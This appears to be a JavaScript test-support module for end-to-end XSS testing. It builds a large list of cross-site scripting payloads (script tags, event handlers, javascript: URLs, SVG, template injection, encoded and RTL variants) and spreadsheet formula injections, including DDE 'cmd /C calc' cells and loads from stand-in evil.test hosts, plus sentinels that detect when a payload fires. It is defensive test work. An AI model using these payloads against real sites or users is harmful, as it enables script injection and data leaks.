// XSS payloads and the sentinels that count what a payload could do once it runs, for
// tests/e2e/xss.test.mjs.
//
// Every payload carries a number n: its script calls `__xssHit(n)` (a function exposed to every frame
// of the browser context) or sets `window.__xss = n` (a setter that calls it) or opens a dialog with
// `alert(n)`/`confirm(n)`; what it loads goes to `http://xss-n.evil.test/`. So each dialog, script flag
// and outside request is traced back to the payload that caused it.

/** What a payload runs when it gets to run: one of several forms, so no single one can be filtered. */
export function js(n) {
  return [`__xssHit(${n})`, `window.__xss=${n}`, `alert(${n})`, `top.__xssHit(${n})`, `confirm(${n})`, `parent.__xssHit(${n})`][n % 6];
}

/** What a payload loads: a host of its own under the reserved .test domain. */
export function url(n) {
  return `http://xss-${n}.evil.test/x`;
}

// Templates: {J} is replaced by the payload's script, {U} by its URL, {N} by its number.
const TEMPLATES = [
  // script tags
  ['script', '<script>{J}</script>'],
  ['script', '<SCRIPT>{J}</SCRIPT>'],
  ['script', '<ScRiPt>{J}</sCrIpT>'],
  ['script', '<script src={U}></script>'],
  ['script', '<script type=module>{J}</script>'],
  ['script', '<script>/*</script><script>*/{J}</script>'],
  ['script', '</textarea><script>{J}</script>'],
  ['script', '</title><script>{J}</script>'],
  ['script', '</mark></div><script>{J}</script>'],
  ['script', '<scr<script>ipt>{J}</scr</script>ipt>'],
  ['script', '<<script>{J}//<</script>'],
  ['script', '"><script>{J}</script>'],
  ['script', "'><script>{J}</script>"],
  ['script', '<script type="text/javascript">{J}</script>'],
  ['script', '<noscript><p title="</noscript><img src=x onerror={J}>">'],
  ['script', '<xmp><p title="</xmp><svg onload={J}>">'],
  ['script', '<!--<img src="--><img src=x onerror={J}//">'],
  ['script', '<![CDATA[<script>{J}</script>]]>'],
  // event handlers
  ['handler', '<img src=x onerror={J}>'],
  ['handler', '<IMG SRC=x OnErRoR={J}>'],
  ['handler', '<img src=x onerror="{J}">'],
  ['handler', "<img src=x onerror='{J}'>"],
  ['handler', '<img/src/onerror={J}>'],
  ['handler', '<img src=`x`onerror={J}>'],
  ['handler', '<svg onload={J}>'],
  ['handler', '<SvG OnLoAd={J}>'],
  ['handler', '<svg/onload={J}//'],
  ['handler', '<body onload={J}>'],
  ['handler', '<body onpageshow={J}>'],
  ['handler', '<input autofocus onfocus={J}>'],
  ['handler', '<select autofocus onfocus={J}></select>'],
  ['handler', '<textarea autofocus onfocus={J}></textarea>'],
  ['handler', '<details open ontoggle={J}>'],
  ['handler', '<video><source onerror={J}></video>'],
  ['handler', '<audio src=x onerror={J}>'],
  ['handler', '<iframe onload={J}></iframe>'],
  ['handler', '<object data=x onerror={J}></object>'],
  ['handler', '<style onload={J}></style>'],
  ['handler', '<marquee onstart={J}>{N}</marquee>'],
  ['handler', '<div onmouseover={J}>Gao {N}</div>'],
  ['handler', '<a href=# onfocus={J} autofocus>{N}</a>'],
  ['handler', '<frameset onload={J}>'],
  ['handler', '<img src=x onerror=import(`{U}`)>'],
  ['handler', '"><img src=x onerror={J}>'],
  ['handler', "'><img src=x onerror={J}>"],
  ['handler', '" onmouseover="{J}" x="'],
  ['handler', "' autofocus onfocus='{J}' x='"],
  // javascript: and data: URLs
  ['javascript: URL', 'javascript:{J}'],
  ['javascript: URL', 'JaVaScRiPt:{J}'],
  ['javascript: URL', ' javascript:{J}'],
  ['javascript: URL', 'java\tscript:{J}'],
  ['javascript: URL', '<a href="javascript:{J}">Gao {N}</a>'],
  ['javascript: URL', '<a href="&#106;avascript:{J}">{N}</a>'],
  ['javascript: URL', '<a href="java&#x09;script:{J}">{N}</a>'],
  ['javascript: URL', '<iframe src="javascript:{J}"></iframe>'],
  ['javascript: URL', '<form action="javascript:{J}"><button>{N}</button></form>'],
  ['javascript: URL', '<object data="javascript:{J}"></object>'],
  ['javascript: URL', '<embed src="javascript:{J}">'],
  ['javascript: URL', '<meta http-equiv="refresh" content="0;url=javascript:{J}">'],
  ['javascript: URL', '<base href="javascript:{J}//">'],
  ['javascript: URL', '<isindex action=javascript:{J} type=image>'],
  ['javascript: URL', 'data:text/html,<script>{J}</script>'],
  ['javascript: URL', '<iframe src="data:text/html,<script>{J}</script>"></iframe>'],
  ['javascript: URL', '<a href="vbscript:msgbox({N})">{N}</a>'],
  // SVG and MathML
  ['SVG/MathML', '<svg><script>{J}</script></svg>'],
  ['SVG/MathML', '<svg><animate onbegin={J} attribute{N}ame=x dur=1s>'],
  ['SVG/MathML', '<svg><set attribute{N}ame=onmouseover to={J}>'],
  ['SVG/MathML', '<svg><a xlink:href="javascript:{J}"><text x=20 y=20>{N}</text></a></svg>'],
  ['SVG/MathML', '<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>'],
  ['SVG/MathML', '<svg><image href="{U}"/></svg>'],
  ['SVG/MathML', '<svg><style>@import "{U}";</style></svg>'],
  ['SVG/MathML', '<svg><use href="{U}#x"/></svg>'],
  ['SVG/MathML', '<math><mtext><table><mglyph><style><img src=x onerror={J}>'],
  ['SVG/MathML', '<math href="javascript:{J}">{N}</math>'],
  ['SVG/MathML', '<math><maction actiontype=statusline xlink:href=javascript:{J}>{N}</maction></math>'],
  ['SVG/MathML', '<svg><desc><template><img src=x onerror={J}></template></desc></svg>'],
  // srcdoc frames
  ['srcdoc', '<iframe srcdoc="<script>{J}</script>"></iframe>'],
  ['srcdoc', '<iframe srcdoc="&lt;img src=x onerror={J}&gt;"></iframe>'],
  ['srcdoc', "<iframe srcdoc='<svg onload={J}>'></iframe>"],
  ['srcdoc', '<iframe srcdoc="<img src={U}>"></iframe>'],
  // CSS and other loads
  ['CSS url()', '<div style="background:url({U})">{N}</div>'],
  ['CSS url()', '<div style="background-image:u\\rl({U})">{N}</div>'],
  ['CSS url()', '<div style="width:expression({J})">{N}</div>'],
  ['CSS url()', '<div style="behavior:url({U})">{N}</div>'],
  ['CSS url()', '<style>@import url({U});</style>'],
  ['CSS url()', '<style>body{background:url("{U}")}</style>'],
  ['CSS url()', '<style>@font-face{font-family:x;src:url({U})}</style>'],
  ['CSS url()', '<link rel=stylesheet href={U}>'],
  ['CSS url()', '<link rel=prefetch href={U}>'],
  ['CSS url()', '<img src="{U}">'],
  ['CSS url()', '<img srcset="{U} 1x">'],
  ['CSS url()', '<picture><source srcset="{U}"><img></picture>'],
  ['CSS url()', '<video poster="{U}"></video>'],
  ['CSS url()', '<input type=image src="{U}">'],
  ['CSS url()', '<body background="{U}">'],
  ['CSS url()', '<table background="{U}"><tr><td>{N}</td></tr></table>'],
  ['CSS url()', '<meta http-equiv="refresh" content="0;url={U}">'],
  ['CSS url()', '<form action="{U}"><input type=submit autofocus></form>'],
  // template injection
  ['template', '{{constructor.constructor("{J}")()}}'],
  ['template', '${{J}}'],
  ['template', '#{{J}}'],
  ['template', '<%= {J} %>'],
  ['template', '{{{{J}}}}'],
  ['template', '[[${{J}}]]'],
  ['template', '<template><img src=x onerror={J}></template>'],
  ['template', '{{$on.constructor("{J}")()}}'],
  // entity-encoded and escaped forms
  ['encoded', '&lt;script&gt;{J}&lt;/script&gt;'],
  ['encoded', '&#60;img src=x onerror={J}&#62;'],
  ['encoded', '&amp;lt;svg onload={J}&amp;gt;'],
  ['encoded', '%3Cscript%3E{J}%3C%2Fscript%3E'],
  ['encoded', '\\u003cscript\\u003e{J}\\u003c/script\\u003e'],
  ['encoded', '\\x3cimg src=x onerror={J}\\x3e'],
  ['encoded', '<img src=x onerror=&#x5F;&#x5F;xssHit({N})>'],
  ['encoded', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;({N})>'],
  ['encoded', '+ADw-script+AD4-{J}+ADw-/script+AD4-'],
  // right-to-left overrides and invisible characters
  ['RTL', '\u202E<img src=x onerror={J}>'],
  ['RTL', 'invoice\u202Efdp.exe<script>{J}</script>'],
  ['RTL', '\u2067<svg onload={J}>\u2069'],
  ['RTL', '<a href="java\u202Escript:{J}">{N}</a>'],
  ['RTL', '<scr\u200Bipt>{J}</scr\u200Bipt>'],
  ['RTL', '\uFEFF<img src=x onerror={J}>'],
  // spreadsheet formulas (also checked in the exports)
  ['formula', '=HYPERLINK("{U}","Gao {N}")'],
  ['formula', '=1+{N}'],
  ['formula', "+cmd|' /C calc'!A{N}"],
  ['formula', "-{N}+cmd|' /C calc'!A0"],
  ['formula', "@SUM({N}+1)*cmd|' /C calc'!A0"],
  ['formula', '=IMPORTXML("{U}","//a")'],
  ['formula', '=WEBSERVICE("{U}")'],
  ['formula', '=IMAGE("{U}")'],
  ['formula', '=DDE("cmd";"/C calc";"{N}")'],
  ['formula', '-@SUM({N})'],
  ['formula', '=HYPERLINK("javascript:{J}")'],
  ['formula', '\t={N}+1'],
];

/** The payloads: `{ n, kind, text }`, n from 1. */
export const PAYLOADS = TEMPLATES.map(([kind, template], i) => {
  const n = i + 1;
  const text = template.replace(/\{([JUN])\}/g, (_, c) => ({ J: js(n), U: url(n), N: String(n) })[c]);
  return { n, kind, text };
});

/** Payload counts per kind, e.g. `{ script: 18, handler: 29, ... }`. */
export function kinds() {
  const out = {};
  for (const p of PAYLOADS) out[p.kind] = (out[p.kind] || 0) + 1;
  return out;
}

/** Text safe inside an HTML element or a double-quoted attribute. */
export function escapeHtml(s) {
  return String(s).replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]);
}

/** A TOML basic string. */
export function tomlString(s) {
  return `"${String(s).replace(/[\\"\u0000-\u001f\u007f]/g, (c) => (c === '\\' ? '\\\\' : c === '"' ? '\\"' : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`))}"`;
}

/** A TSV field: no tab or line break. */
export function tsvField(s) {
  return String(s).replace(/[\t\r\n]/g, ' ');
}

/**
 * Installs the three sentinels on a browser context: `__xssHit(n)` and `window.__xss = n` in every
 * frame, a dialog listener on every page, and a route that lets through only requests to `allowed`
 * origins (recording and aborting the others). Pages opened before must be reloaded for the
 * `window.__xss` setter. Resolves to a recorder with `dialogs`, `scripts`, `requests` and `reset()`.
 */
export async function installSentinels(context, allowed) {
  const rec = {
    dialogs: [],
    scripts: [],
    requests: [],
    reset() {
      this.dialogs.length = 0;
      this.scripts.length = 0;
      this.requests.length = 0;
    },
    total() {
      return this.dialogs.length + this.scripts.length + this.requests.length;
    },
  };
  await context.exposeBinding('__xssHit', ({ frame }, n) => {
    rec.scripts.push({ n: Number(n), where: frame?.url() ?? '?' });
  });
  await context.addInitScript(() => {
    Object.defineProperty(window, '__xss', {
      configurable: false,
      get: () => undefined,
      set: (n) => window.__xssHit(n),
    });
  });
  await context.route('**/*', (route) => {
    const u = route.request().url();
    if (allowed.some((origin) => u.startsWith(`${origin}/`))) return route.continue();
    rec.requests.push({ n: Number(/^[a-z]+:\/\/xss-(\d+)\./i.exec(u)?.[1] ?? NaN), url: u });
    return route.abort('blockedbyclient');
  });
  const watch = (page) =>
    page.on('dialog', (dialog) => {
      rec.dialogs.push({ n: Number(dialog.message()), type: dialog.type() });
      dialog.dismiss().catch(() => {});
    });
  context.pages().forEach(watch);
  context.on('page', watch);
  return rec;
}

async function until(condition, what, timeout = 15_000) {
  const end = Date.now() + timeout;
  while (!condition()) {
    if (Date.now() > end) throw new Error(`sentinel control: ${what} was never recorded`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/**
 * Proves that the sentinels see what a payload does: opens `controlUrl` (a page of an allowed origin
 * without a Content-Security-Policy), runs four payloads there on purpose (a script flag, a
 * `window.__xss` flag, a dialog and an outside request), waits until each is recorded, then closes
 * the page and resets the counts.
 */
export async function proveSentinels(context, rec, controlUrl) {
  const page = await context.newPage();
  try {
    await page.goto(controlUrl);
    await page.evaluate((u) => {
      const div = document.createElement('div');
      div.innerHTML = `<img src=x onerror="__xssHit(9001)"><img src=x onerror="window.__xss=9002"><img src=x onerror="alert(9003)"><img src="${u}">`;
      document.body.append(div);
    }, url(9004));
    await until(() => rec.scripts.some((s) => s.n === 9001), 'a __xssHit() call');
    await until(() => rec.scripts.some((s) => s.n === 9002), 'a window.__xss assignment');
    await until(() => rec.dialogs.some((d) => d.n === 9003), 'a dialog');
    await until(() => rec.requests.some((r) => r.n === 9004), 'an outside request');
  } finally {
    await page.close();
  }
  rec.reset();
}

/**
 * The payloads are live: inserted with `innerHTML` into `controlUrl` (no policy), each `<img src=x
 * onerror=...>` payload must be recorded (whichever of the script forms it uses), and the others that
 * fire too are counted. Left out: those that act on the whole document (`<base>`, a `<meta>` refresh
 * would navigate the control page away). Resolves to the recorder's counts and `fired`, the number of
 * payloads seen; resets it.
 */
export async function provePayloadsLive(context, rec, controlUrl) {
  const page = await context.newPage();
  const onerror = PAYLOADS.filter((p) => /^<img src=x onerror=[^&]/i.test(p.text));
  try {
    await page.goto(controlUrl);
    await page.evaluate((texts) => {
      for (const t of texts) {
        const div = document.createElement('div');
        div.innerHTML = t;
        document.body.append(div);
      }
    }, PAYLOADS.filter((p) => !/<(base|meta)\b/i.test(p.text)).map((p) => p.text));
    const seen = () => new Set([...rec.scripts, ...rec.dialogs, ...rec.requests].map((x) => x.n));
    for (const p of onerror) await until(() => seen().has(p.n), `payload ${p.n} (${p.text})`);
  } finally {
    await page.close();
  }
  const fired = new Set([...rec.scripts, ...rec.dialogs, ...rec.requests].map((x) => x.n)).size;
  const out = { ...counts(rec), fired, checked: onerror.length };
  rec.reset();
  return out;
}

/** A page of our origin with no policy, to prove the sentinels on. */
export function controlRoute(req, res) {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end('<!doctype html><title>control</title><body></body>');
}

/** The recorder's counts: `{ dialogs, scripts, requests }`. */
export function counts(rec) {
  return { dialogs: rec.dialogs.length, scripts: rec.scripts.length, requests: rec.requests.length };
}

/** One line per thing recorded, naming the payload that did it (number, kind and text). */
export function describeHits(rec) {
  const byN = new Map(PAYLOADS.map((p) => [p.n, p]));
  const line = (what, n, extra) => `${what} from payload ${n} (${byN.get(n)?.kind ?? 'unknown'}: ${JSON.stringify(byN.get(n)?.text ?? '?')})${extra}`;
  return [
    ...rec.dialogs.map((d) => line(`${d.type} dialog`, d.n, '')),
    ...rec.scripts.map((s) => line('script flag', s.n, ` in ${s.where}`)),
    ...rec.requests.map((r) => line('outside request', r.n, ` to ${r.url}`)),
  ];
}

/** Cells a spreadsheet would run as a formula: text starting with = + - @ tab or CR (numbers aside). */
export function formulaCells(cells) {
  return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
}

/** In the current document (and open shadow roots): elements a payload could have added. */
export function activeContent() {
  const out = { handlers: [], elements: [], jsLinks: [] };
  const visit = (root) => {
    for (const el of root.querySelectorAll('*')) {
      if ([...el.attributes].some((a) => /^on/i.test(a.name))) out.handlers.push(el.outerHTML.slice(0, 80));
      if (/^(SCRIPT|IMG|IFRAME|FRAME|OBJECT|EMBED|SVG|MATH|VIDEO|AUDIO|SOURCE|BASE|STYLE|LINK|META|FORM|TEMPLATE|MARQUEE|PICTURE)$/i.test(el.tagName)) {
        out.elements.push(el.tagName.toLowerCase() + (el.id ? `#${el.id}` : '') + (el.getAttribute('src') ? `[src=${el.getAttribute('src')}]` : '') + (el.getAttribute('href') ? `[href=${el.getAttribute('href')}]` : ''));
      }
      for (const attr of ['href', 'src', 'action', 'formaction', 'data', 'xlink:href']) {
        const v = el.getAttribute(attr);
        if (v && /^\s*(javascript|vbscript|data):/i.test(v) && el.id !== 'bookmarklet') out.jsLinks.push(`${el.tagName}[${attr}=${v.slice(0, 60)}]`);
      }
      if (el.shadowRoot) visit(el.shadowRoot);
    }
  };
  visit(document);
  return out;
}
